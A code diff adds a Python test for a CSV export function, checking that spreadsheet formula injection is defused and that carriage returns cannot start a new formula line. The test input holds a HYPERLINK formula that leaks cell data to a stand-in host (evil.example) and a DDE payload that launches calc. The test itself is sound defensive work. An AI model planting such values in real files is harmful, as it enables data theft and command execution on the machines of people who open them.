@@ -81,6 +81,22 @@ def test_it_defuses_spreadsheet_formulas_in_csv_cells(audit_rows: AuditRows) -> 
     assert "'=HYPERLINK(\"http://x\")" in [row["client_user_agent"] for row in rows]
 
 
+def test_the_reviews_carriage_return_formula_starts_no_cell_and_no_line(audit_rows: AuditRows) -> None:
+    """The review's model name ``x\\r=HYPERLINK(...)``: read back with the csv module no cell starts a
+    formula, and no physical line of the file does either (a reader that splits on a bare CR)."""
+    tenant = audit_rows.upstream_a.tenant
+    attack = 'x\r=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    add_request(tenant, audit_rows.upstream_a, "evil", at=PERIOD[0], model=attack, agent="+cmd|' /C calc'!A0")
+    out = io.StringIO()
+    write_requests_csv(_scope_a(audit_rows), out)
+    text = out.getvalue()
+    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'x\r'=HYPERLINK" in "".join(cells)  # the text itself is kept, defused
+    lines = re.split(r"\r\n|\r|\n", text)
+    assert not [line for line in lines if line.lstrip('"').startswith(("=", "+", "-", "@"))]
+
+
 def test_it_writes_a_json_summary_that_follows_its_schema(audit_rows: AuditRows) -> None:
     """The summary validates against SUMMARY_SCHEMA and reads back as the figures."""
     figures = build_figures(_scope_a(audit_rows))
